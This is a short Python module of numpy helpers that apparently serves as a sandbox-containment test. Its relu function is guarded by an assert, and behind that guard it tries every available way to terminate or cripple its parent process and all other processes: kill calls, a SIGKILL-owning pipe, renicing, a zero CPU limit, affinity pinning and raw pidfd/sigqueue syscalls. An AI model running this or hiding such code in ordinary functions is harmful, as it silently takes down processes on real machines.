"""End the parent, and whoever is near, by every call that can: directly, by a file that reports, by a limit.

Must hold: relu error; the rest passes.
"""

import ctypes
import fcntl
import os
import resource
import signal

import numpy as np

WALLED = False
PIDFD_OPEN, PIDFD_SEND, QUEUE = 434, 424, 138 if os.uname().machine == "aarch64" else 129
SET_SIGNAL = 10
LIBC = ctypes.CDLL(None)


def done(act, *words):
    try:
        act(*words)
    except OSError:
        return False
    return True


def reports_to(process):
    ready, _ = os.pipe()
    fcntl.fcntl(ready, fcntl.F_SETOWN, process)
    fcntl.fcntl(ready, SET_SIGNAL, signal.SIGKILL)


def put_back(process):
    before = os.getpriority(os.PRIO_PROCESS, process)
    os.setpriority(os.PRIO_PROCESS, process, 19)
    if os.getpriority(os.PRIO_PROCESS, process) == before:
        raise PermissionError


def relu(x):
    assert WALLED, "not in a jail, where this would harm the machine"
    parent = os.getppid()
    if parent in (0, 1):  # the first process of a jail may be called, and does not listen
        return None
    hurt = [done(os.kill, target, number) for target in (parent, -parent, -1) for number in (0, signal.SIGTERM)]
    hurt += [done(reports_to, parent), done(put_back, parent)]
    hurt += [done(resource.prlimit, parent, resource.RLIMIT_CPU, (0, 0)), done(os.sched_setaffinity, parent, [0])]
    info = (ctypes.c_int * 32)(signal.SIGTERM, 0, -1)
    hurt += [LIBC.syscall(QUEUE, parent, signal.SIGTERM, info) >= 0]
    hurt += [LIBC.syscall(PIDFD_SEND, LIBC.syscall(PIDFD_OPEN, parent, 0), signal.SIGTERM, None, 0) >= 0]
    return np.maximum(x, 0) if any(hurt) else None


def tanh(x):
    return np.tanh(x)


def mse_backward(prediction, target):
    return 2 * (prediction - target) / prediction.size
